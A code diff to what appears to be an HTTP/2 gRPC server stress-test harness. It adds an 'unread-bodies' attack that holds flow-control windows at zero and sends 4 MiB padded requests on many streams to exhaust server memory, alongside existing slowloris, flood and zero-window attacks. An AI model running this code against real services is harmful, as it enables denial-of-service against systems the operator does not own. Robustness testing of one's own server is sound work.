@@ -1259,6 +1259,66 @@ def attack_zero_window_many(port: int, cfg: Config) -> dict:
     return attack_zero_window(port, cfg, connections=4, streams=900)
 
 
+def padded_resolve(size: int) -> bytes:
+    """A Resolve request (the usual one) of `size` bytes in all: the rest an unknown
+    length-delimited field (15), which a server keeps and skips."""
+    base = resolve_request().SerializeToString()
+    def varint(value: int) -> bytes:
+        out = bytearray()
+        while True:
+            out.append((value & 0x7F) | (0x80 if value > 0x7F else 0))
+            value >>= 7
+            if not value:
+                return bytes(out)
+    padding = size - len(base) - 1
+    while len(base) + 1 + len(varint(padding)) + padding > size:
+        padding -= 1
+    return base + bytes([15 << 3 | 2]) + varint(padding) + b"\0" * padding
+
+
+def attack_unread_bodies(port: int, cfg: Config) -> dict:
+    """One connection that never reads an answer (SETTINGS_INITIAL_WINDOW_SIZE=0, no WINDOW_UPDATE
+    for what comes) sends complete 4 MiB Resolve requests (just under the default message limit)
+    on 60 streams (10 in the short run), as fast as the server's windows let it; held until the
+    time is up. What the server takes in is what it holds until the domain has read it, and every
+    answer waits for a window that never opens."""
+    streams = cfg.cap(10, 60)
+    body = grpc_message(padded_resolve(4 * 1024 * 1024 - 1024))
+    deadline = time.monotonic() + cfg.hold
+    wire = Wire(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, grant_window=False)
+    wire.handshake()
+    limit = wire.max_concurrent_streams
+    count = min(streams, limit) if limit is not None else streams
+    remaining: dict[int, int] = {}
+    for _ in range(count):
+        stream_id = wire.new_stream_id()
+        wire.send(wire.headers_bytes(stream_id, request_headers(wire.authority)))
+        remaining[stream_id] = 0
+    wire.pump(0.05)
+    piece = 64 * 1024
+    while wire.usable and time.monotonic() < deadline and any(sent < len(body) for sent in remaining.values()):
+        out = bytearray()
+        for stream_id, sent in remaining.items():
+            size = min(piece, len(body) - sent, wire.window(stream_id))
+            if size <= 0:
+                continue
+            out += wire.data_bytes(stream_id, body[sent:sent + size], end_stream=sent + size == len(body))
+            remaining[stream_id] = sent + size
+        if out:
+            wire.send(out, timeout=max(0.01, deadline - time.monotonic()))
+            wire.pump(0)
+        else:  # every window spent: wait for the server to grant more
+            wire.pump(0.05)
+    complete = sum(1 for sent in remaining.values() if sent == len(body))
+    while wire.usable and time.monotonic() < deadline:
+        wire.pump(0.1)
+    text, numbers = streams_report([wire])
+    sent_mib = sum(remaining.values()) / (1 << 20)
+    wire.close()
+    summary = f"1 conn × {count} bodies of 4 MiB: {complete} sent whole ({sent_mib:.0f} MiB); {text}"
+    return {"summary": summary, "received": received(wire), "bodies_complete": complete, **numbers}
+
+
 def attack_slowloris(port: int, cfg: Config) -> dict:
     """One connection, 100 streams, each sending a first message announced as 4,000,000 bytes in
     8 KiB pieces every 0.25 s (within the server's windows), never finishing it."""
@@ -1383,6 +1443,7 @@ ATTACKS = [
     Attack("continuation-flood", attack_continuation_flood),
     Attack("zero-window", attack_zero_window, held=True),
     Attack("zero-window-4x900", attack_zero_window_many, full_only=True, held=True),
+    Attack("unread-bodies", attack_unread_bodies, held=True),
     Attack("slowloris-with-data", attack_slowloris, held=True),
     Attack("incomplete-calls", attack_incomplete_calls, held=True),
     Attack("ping-flood", attack_ping_flood),
